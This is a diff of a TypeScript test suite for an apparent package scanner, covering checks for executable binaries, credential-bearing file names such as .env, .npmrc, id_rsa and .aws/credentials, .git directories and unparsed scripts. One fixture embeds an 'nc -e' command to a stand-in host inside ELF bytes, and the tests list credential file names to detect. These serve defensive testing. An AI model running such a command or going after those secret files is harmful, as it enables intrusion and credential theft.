@@ -28,6 +28,12 @@ describe('programs', () => {
     expect(refusals('a.exe', 'MZ text')).toEqual(['package-executable-binary'])
   })
 
+  it('says nothing else of a program: its bytes are no text', () => {
+    const spelled = Uint8Array.from([...ELF.slice(0, 4), ...utf8('\u007F nc -e http://a.example.org\n')])
+    expect(seenIn('a.bin', spelled)).toEqual(['error package-executable-binary:null'])
+    expect(seenIn('a.md', spelled)).toEqual(['error package-executable-binary:null'])
+  })
+
   it('lets data with half a magic be', () => {
     expect(seenIn('a.txt', 'MZ is a prefix; so is ELF.')).toEqual([])
     expect(seenIn('a.bin', bytes(0x7f, 0x45, 0x4c))).toEqual([])
@@ -81,20 +87,38 @@ describe('archives', () => {
 })
 
 describe('names', () => {
-  it.each(['.env', 'a/.npmrc', '.pypirc', '.netrc', 'credentials', '.aws/credentials'])(
-    'warns of %s',
-    (path) => {
-      expect(seenIn(path, 'x')).toEqual(['warning package-hidden-sensitive-file:null'])
-    },
-  )
+  it.each([
+    '.env',
+    'a/.env.production',
+    'a/.npmrc',
+    '.pypirc',
+    '.netrc',
+    '.aws/credentials',
+    '.git-credentials',
+    '.htpasswd',
+    'keys/id_rsa',
+    'id_ed25519',
+  ])('refuses %s, which holds credentials by its name', (path) => {
+    const [finding, ...others] = scanned({ [path]: 'x' })
+    expect(finding).toMatchObject({ rule: 'package-hidden-sensitive-file', severity: 'error' })
+    expect(finding?.mend).toContain('*.example without values')
+    expect(others).toEqual([])
+  })
 
-  it('warns of a repository and lets samples be', () => {
-    expect(seenIn('a/.git/HEAD', 'x')).toEqual(['warning package-git-directory:null'])
-    expect(seenIn('.git/config', 'x')).toEqual([
-      'warning package-git-directory:null',
-      'warning package-hidden-sensitive-file:null',
+  it('refuses a repository, only warns of a file that may be about credentials, and lets samples be', () => {
+    expect(seenIn('a/.git/HEAD', 'x')).toEqual(['error package-git-directory:null'])
+    expect(seenIn('.git/config', 'x')).toEqual(['error package-git-directory:null'])
+    expect(seenIn('a/credentials', 'x')).toEqual(['warning package-hidden-sensitive-file:null'])
+    for (const path of [
+      '.env.example',
+      '.env.sample',
+      '.env.template',
+      'id_rsa.pub',
+      'env.md',
+      'credentials.md',
+      '.gitignore',
+      '.github/a.yml',
     ])
-    for (const path of ['.env.example', 'env.md', 'credentials.md', '.gitignore', '.github/a.yml'])
       expect(seenIn(path, 'x'), path).toEqual([])
   })
 
@@ -102,5 +126,17 @@ describe('names', () => {
     expect(seenIn('other/SKILL.md', '# x')).toEqual(['warning package-nested-skill-md:null'])
     expect(seenIn('evals/fixtures/a/SKILL.md', '# x')).toEqual([])
     expect(seenIn('SKILL.md', '# x')).toEqual([])
+  })
+})
+
+describe('code that is not parsed', () => {
+  it.each(['a.rb', 'a.php', 'a.pl', 'a.ps1', 'a.lua', 'a.ipynb'])('is told of: %s', (path) => {
+    expect(seenIn(path, 'x')).toEqual(['note code-not-scanned:null'])
+  })
+
+  it('is known by its first line too, and what is parsed or no code is not told of', () => {
+    expect(seenIn('bin/run', '#!/usr/bin/env ruby\nputs 1')).toEqual(['note code-not-scanned:null'])
+    for (const path of ['a.py', 'a.ts', 'a.sh', 'a.txt', 'a.json', 'a.md'])
+      expect(seenIn(path, ''), path).toEqual([])
   })
 })
